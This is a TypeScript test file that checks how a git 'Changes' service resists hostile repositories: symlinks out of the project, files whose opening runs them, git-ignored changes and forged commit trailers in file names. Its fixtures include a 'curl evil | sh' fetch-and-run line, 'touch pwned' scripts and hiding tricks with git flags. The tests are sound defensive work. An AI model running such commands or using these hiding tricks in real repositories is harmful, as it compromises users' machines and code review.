import { lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runGit as run } from '../../test-support/git';
import { tempDir } from '../../test-support/temp';
import { ChangesService } from './changes-service';
import { openRefusal } from './open-refusal';

const FAR = Array.from({ length: 40 }, (_, i) => `row ${i + 1}`).join('\n') + '\n';

function repo(): string {
  const d = tempDir('carapace-changes-hostile-');
  run(d, 'init', '-q', '-b', 'main');
  writeFileSync(path.join(d, 'far.txt'), FAR);
  mkdirSync(path.join(d, 'docs'));
  writeFileSync(path.join(d, 'docs', 'guide.txt'), FAR);
  run(d, 'add', '.');
  run(d, 'commit', '-q', '-m', 'first');
  return d;
}

const service = (root: string) =>
  new ChangesService({ target: () => ({ root, worktree: null }), openPath: null });

describe('the Changes view against a hostile working tree', () => {
  it('a file replaced by a link out of the project: two hunks, no header lines shown as rows, the outside file never written', async () => {
    const d = repo();
    const outside = tempDir('carapace-changes-outside-');
    const victim = path.join(outside, 'victim.txt');
    writeFileSync(victim, 'precious\n');
    rmSync(path.join(d, 'far.txt'));
    symlinkSync(victim, path.join(d, 'far.txt'));
    const s = service(d);
    const diff = await s.diff('s1', 'far.txt');
    // git writes a type change as a deletion and an addition, each with its own header: the second
    // header's `--- /dev/null` and `+++ b/far.txt` were shown as a removed and an added line.
    expect(diff).toMatchObject({ status: 'typechange', symlink: true });
    expect(diff.hunks.map((h) => h.header)).toEqual(['@@ -1,40 +0,0 @@', '@@ -0,0 +1 @@']);
    expect(diff.hunks[0]?.lines).toHaveLength(40);
    expect(diff.hunks[0]?.lines.every((l) => l.kind === 'del' && l.text.startsWith('row '))).toBe(true);
    expect(diff.hunks[1]?.lines).toEqual([{ kind: 'add', oldLine: null, newLine: 1, text: victim }]);
    // Putting the file back first is git's refusal (the link is still there), nothing written.
    await expect(s.discardHunk('s1', 'far.txt', 0, diff.hunks[0]?.header ?? '')).rejects.toMatchObject({
      code: 'CONFLICT',
    });
    // Discarding the link's hunk removes the link (not what it points at), then the file comes back.
    await s.discardHunk('s1', 'far.txt', 1, diff.hunks[1]?.header ?? '');
    expect(() => lstatSync(path.join(d, 'far.txt'))).toThrow();
    const again = await s.diff('s1', 'far.txt');
    await s.discardHunk('s1', 'far.txt', 0, again.hunks[0]?.header ?? '');
    expect(lstatSync(path.join(d, 'far.txt')).isFile()).toBe(true);
    expect(readFileSync(path.join(d, 'far.txt'), 'utf8')).toBe(FAR);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect((await s.list('s1')).files).toEqual([]);
  });

  it('a folder replaced by a link out of the project: its files cannot be discarded or staged through the link', async () => {
    const d = repo();
    const outside = tempDir('carapace-changes-outside-');
    const victim = path.join(outside, 'guide.txt');
    writeFileSync(victim, FAR.replace('row 2\n', 'row two\n'));
    rmSync(path.join(d, 'docs'), { recursive: true });
    symlinkSync(outside, path.join(d, 'docs'));
    const s = service(d);
    const listed = (await s.list('s1')).files.map((f) => [f.path, f.status, f.symlink]);
    expect(listed).toEqual([
      ['docs', 'untracked', true],
      ['docs/guide.txt', 'deleted', false],
    ]);
    const diff = await s.diff('s1', 'docs/guide.txt');
    await expect(s.discardHunk('s1', 'docs/guide.txt', 0, diff.hunks[0]?.header ?? '')).rejects.toMatchObject(
      { code: 'CONFLICT', message: expect.stringMatching(/beyond a symbolic link/) },
    );
    await expect(s.discardHunk('s1', 'docs', 0, '@@ -0,0 +1,1 @@')).rejects.toMatchObject({
      code: 'CONFLICT',
    });
    expect(readFileSync(victim, 'utf8')).toBe(FAR.replace('row 2\n', 'row two\n'));
  });
});

describe('Open in editor with a hostile repository', () => {
  it('never hands the system a file its open would run: a .command, a shortcut, a .desktop, an executable, or a link to one', async () => {
    const d = repo();
    const runs = ['run.command', 'setup.LNK', 'x.desktop', 'docs/tool.app', 'install.exe', 'a.url'];
    for (const f of runs) writeFileSync(path.join(d, f), '#!/bin/sh\ntouch pwned\n');
    writeFileSync(path.join(d, 'noext'), '#!/bin/sh\ntouch pwned\n', { mode: 0o755 });
    symlinkSync('run.command', path.join(d, 'notes.txt'));
    writeFileSync(path.join(d, 'far.txt'), FAR + 'more\n');
    const opened: string[] = [];
    const s = new ChangesService({
      target: () => ({ root: d, worktree: null }),
      openPath: (p) => {
        opened.push(p);
        return Promise.resolve('');
      },
    });
    for (const f of [...runs, 'noext', 'notes.txt'])
      await expect(s.openInEditor('s1', f)).rejects.toMatchObject({
        code: 'FORBIDDEN',
        message: expect.stringMatching(/is not opened: (a \.\w+ file is run|it is executable)/),
      });
    await s.openInEditor('s1', 'far.txt');
    expect(opened.map((p) => path.basename(p))).toEqual(['far.txt']);
  });
});

describe('openRefusal', () => {
  it('refuses a .js file only where opening runs it (Windows Script Host)', () => {
    expect(openRefusal(['app.js'], 0o644, 'win32')).toMatch(/a \.js file is run/);
    expect(openRefusal(['app.js'], 0o644, 'linux')).toBeNull();
    expect(openRefusal(['app.js'], 0o644, 'darwin')).toBeNull();
  });
});

describe('a diff too big to show whole', () => {
  it('a diff cut at the output cap says it is truncated even with few (very long) lines', async () => {
    const d = repo();
    const line = (c: string) => `${c.repeat(100_000)}\n`;
    // 200 lines of 100 KB: every line changed makes 40 MB of diff, past the 32 MB cap, in 400 lines.
    writeFileSync(path.join(d, 'bundle.min.js'), Array.from({ length: 200 }, () => line('a')).join(''));
    run(d, 'add', 'bundle.min.js');
    run(d, 'commit', '-q', '-m', 'bundle');
    writeFileSync(
      path.join(d, 'bundle.min.js'),
      Array.from({ length: 200 }, (_, i) => line(i === 199 ? 'z' : 'b')).join(''),
    );
    const diff = await service(d).diff('s1', 'bundle.min.js');
    expect(diff.truncated).toBe(true);
    const shown = diff.hunks.flatMap((h) => h.lines);
    expect(shown.length).toBeLessThan(400);
    // The last line's change lies past the cut: the view must not pass for the whole diff.
    expect(shown.some((l) => l.text.startsWith('z'))).toBe(false);
  }, 60_000);
});

describe('changes git is told to ignore', () => {
  it('a file marked assume-unchanged or skip-worktree (one git command the agent may run) still shows its changes', async () => {
    const d = repo();
    writeFileSync(path.join(d, 'sparse.txt'), 'kept out of a sparse checkout\n');
    run(d, 'add', 'sparse.txt');
    run(d, 'commit', '-q', '-m', 'sparse');
    run(d, 'update-index', '--assume-unchanged', 'far.txt');
    run(d, 'update-index', '--skip-worktree', 'docs/guide.txt');
    run(d, 'update-index', '--skip-worktree', 'sparse.txt');
    rmSync(path.join(d, 'sparse.txt'));
    writeFileSync(path.join(d, 'far.txt'), FAR.replace('row 2\n', 'row two, now with a backdoor\n'));
    writeFileSync(path.join(d, 'docs', 'guide.txt'), FAR.replace('row 39\n', 'row thirty-nine\n'));
    // git's own diff misses both.
    expect(run(d, 'diff', 'HEAD', '--name-only')).toBe('');
    const s = service(d);
    // A skip-worktree file absent from the disk is a sparse checkout's, not a deletion.
    expect((await s.list('s1')).files.map((f) => [f.path, f.status, f.additions, f.deletions])).toEqual([
      ['docs/guide.txt', 'modified', 1, 1],
      ['far.txt', 'modified', 1, 1],
    ]);
    const diff = await s.diff('s1', 'far.txt');
    expect(diff.hunks[0]?.lines).toContainEqual(
      expect.objectContaining({ kind: 'add', text: 'row two, now with a backdoor' }),
    );
    // The person's index keeps its bits: only a copy was read.
    expect(run(d, 'ls-files', '-v').split('\n').filter(Boolean).sort()).toEqual([
      'S docs/guide.txt',
      'S sparse.txt',
      'h far.txt',
    ]);
    await s.stageHunk('s1', 'far.txt', 0, diff.hunks[0]?.header ?? '');
    expect(run(d, 'diff', '--cached')).toContain('+row two, now with a backdoor');
  });
});

describe('untracked files hidden by a .gitignore of their own', () => {
  it('a new tools/.gitignore holding * (which ignores itself and all beside it) is listed, with its content', async () => {
    const d = repo();
    mkdirSync(path.join(d, 'tools'));
    writeFileSync(path.join(d, 'tools', '.gitignore'), '*\n');
    writeFileSync(path.join(d, 'tools', 'backdoor.sh'), 'curl evil | sh\n');
    mkdirSync(path.join(d, 'node_modules', 'x'), { recursive: true });
    writeFileSync(path.join(d, 'node_modules', 'x', 'y.js'), 'y\n');
    writeFileSync(path.join(d, '.gitignore'), 'node_modules/\n');
    run(d, 'add', '.gitignore');
    run(d, 'commit', '-q', '-m', 'ignore');
    expect(run(d, 'status', '--porcelain')).toBe('');
    const s = service(d);
    // Ordinary ignored files stay out; the self-ignoring .gitignore shows what it does.
    expect((await s.list('s1')).files.map((f) => [f.path, f.status])).toEqual([
      ['tools/.gitignore', 'untracked'],
    ]);
    expect((await s.diff('s1', 'tools/.gitignore')).hunks[0]?.lines.map((l) => l.text)).toEqual(['*']);
  });
});

describe('the suggested commit message with hostile file names', () => {
  it('a file name cannot forge the subject, a trailer or another line', async () => {
    const d = repo();
    const forged = 'notes\n\nSigned-off-by: Maintainer <m@example.com>';
    writeFileSync(path.join(d, forged), 'x\n');
    const one = (await service(d).suggestMessage('s1')).message;
    expect(one.split('\n')[0]).toBe(`Add ${JSON.stringify(forged)}`);
    writeFileSync(path.join(d, 'far.txt'), FAR + 'more\n');
    const two = (await service(d).suggestMessage('s1')).message;
    expect(two.split('\n').filter((l) => l.startsWith('Signed-off-by'))).toEqual([]);
    expect(two).toContain(`- A ${JSON.stringify(forged)} (+1 -0)`);
  });
});

describe('committing everything while git is told to ignore a listed change', () => {
  it('is refused with the reason instead of a commit that quietly leaves the file out', async () => {
    const d = repo();
    run(d, 'update-index', '--assume-unchanged', 'far.txt');
    writeFileSync(path.join(d, 'far.txt'), FAR.replace('row 2\n', 'row two\n'));
    writeFileSync(path.join(d, 'new.txt'), 'new\n');
    const head = run(d, 'rev-parse', 'HEAD');
    const s = service(d);
    expect((await s.list('s1')).files.map((f) => f.path)).toEqual(['far.txt', 'new.txt']);
    await expect(s.commit('s1', 'Everything')).rejects.toMatchObject({
      code: 'CONFLICT',
      message: expect.stringMatching(/git is told to ignore changes to far\.txt/),
    });
    expect(run(d, 'rev-parse', 'HEAD')).toBe(head);
    // Staged on purpose, a commit goes ahead as before.
    await s.stageFile('s1', 'new.txt');
    await s.commit('s1', 'Add new.txt');
    expect(run(d, 'show', '--name-only', '--format=', 'HEAD').trim()).toBe('new.txt');
  });
});
